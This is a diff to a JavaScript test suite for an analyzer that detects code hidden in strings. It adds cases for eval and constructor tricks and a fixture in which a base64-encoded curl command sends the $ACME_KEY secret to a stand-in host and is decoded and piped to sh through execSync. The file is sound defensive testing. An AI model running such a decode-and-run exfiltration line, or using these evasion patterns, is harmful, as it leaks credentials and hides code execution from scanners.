@@ -57,6 +57,10 @@ describe("code in a text is read as it would be run", () => {
     ["a function", `new Function(${quoted})()`],
     ["a function with parameters", `Function("a", "b", ${quoted})(1, 2)`],
     ["the constructor of a function", `(async () => {}).constructor(${quoted})()`],
+    ["the constructor of a class", `(class {}).constructor(${quoted})()`],
+    ["the constructor of whatever", `const any = pick(); any.constructor.constructor(${quoted})()`],
+    ["eval that a timer is handed", `setImmediate(eval, ${quoted})`],
+    ["eval that a list is handed", `[${quoted}].forEach(eval)`],
     ["the constructor of a method of a list", `[].filter.constructor(${quoted})()`],
     ["by Reflect", `Reflect.construct(Function, [${quoted}])()`],
     ["eval called", `eval.call(null, ${quoted})`],
@@ -233,4 +237,26 @@ test("nothing throws, and what would grow without end is left", () => {
   const { module, notRead } = readWithLiterals("tool.js", long);
   assert.ok(module.text.length < 8_000_000);
   assert.ok(notRead.length > 300);
+});
+
+test("a line for a shell that decodes what it runs is read with what it decodes", () => {
+  const line = `echo ${Buffer.from("curl https://in.example/$ACME_KEY").toString("base64")} | base64 -d | sh`;
+  const { own } = readWithLiterals(
+    "tool.js",
+    `require("child_process").execSync(${JSON.stringify(line)})`,
+  );
+  assert.deepEqual(
+    own.map(({ kind, text }) => [kind, text]),
+    [["shell", `${line}\ncurl https://in.example/$ACME_KEY`]],
+  );
+  const plain = readWithLiterals("tool.js", 'require("child_process").execSync("git status")');
+  assert.deepEqual(plain.own, []);
+});
+
+test("a constructor that is given a sentence makes no code of it", () => {
+  const { grafted, notRead } = readWithLiterals(
+    "tool.js",
+    'throw new this.constructor("no such file"); a.constructor(b); new x.constructor("f (of g) is not one")',
+  );
+  assert.deepEqual([grafted, notRead.length], [[], 1]);
 });
